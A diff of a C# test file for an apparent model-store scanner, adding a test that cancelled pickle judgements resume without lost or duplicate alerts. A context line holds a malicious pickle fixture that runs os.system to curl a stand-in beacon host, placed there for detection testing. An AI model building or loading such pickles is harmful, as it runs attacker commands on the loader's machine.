@@ -1,5 +1,6 @@
 // What a store holds is judged again without its bytes, and found by what it does.
 using System.Text;
+using Assay.Store.Judging;
 
 namespace Assay.Store.Tests.Judging;
 
@@ -80,6 +81,44 @@ public sealed class RetroJudgeTests(PostgresServer server) : StoreTests(server)
         Put("beacon.pkl", Encoding.ASCII.GetBytes("cos\nsystem\n(S'curl http://beacon.example.org/x'\ntR."));
         Command.Run("scan", Models, "--store=" + store);
         return store;
+    }
+
+    [Theory]
+    [MemberData(nameof(Kinds))]
+    public void AJudgementThatIsStoppedHasKeptWhatItToldAndTheNextTellsTheRest(Kind kind)
+    {
+        // More than are judged side by side, twice over.
+        const int Many = 1300;
+        string store = NewStore(kind);
+        for (int i = 0; i < Many; i++)
+        {
+            Put($"{i}.pkl", Encoding.ASCII.GetBytes($"(lp0\nI{i}\na."));
+        }
+
+        Command.Run("scan", Models, "--store=" + store);
+        using ModelStore open = Open(store);
+        Detection.RuleSet rules = Detection.RuleSet.With([("own.yaml", Rules.Pickles)]);
+        List<string> told = [];
+        using CancellationTokenSource stop = new();
+        Assert.Throws<OperationCanceledException>(() => RetroJudge.Of(open, rules, Policies.Policy.None).Run(Tell, stop.Token));
+        Assert.InRange(told.Count, 600, Many - 1);
+        Assert.Equal(told.Count, open.Connection.Number("SELECT count(*) FROM alerts"));
+
+        RetroResult rest = RetroJudge.Of(open, rules, Policies.Policy.None).Run(Tell, CancellationToken.None);
+        Assert.Equal(Many, told.Count);
+        Assert.Equal(Many, told.Distinct().Count());
+        Assert.Equal(Many, open.Connection.Number("SELECT count(*) FROM alerts"));
+        Assert.Equal(Many, rest.Readings);
+        Assert.Equal(0, RetroJudge.Of(open, rules, Policies.Policy.None).Run(Tell, CancellationToken.None).Changed);
+
+        void Tell(JudgementChange change)
+        {
+            told.Add(change.Path);
+            if (told.Count == 600)
+            {
+                stop.Cancel();
+            }
+        }
     }
 
     [Theory]
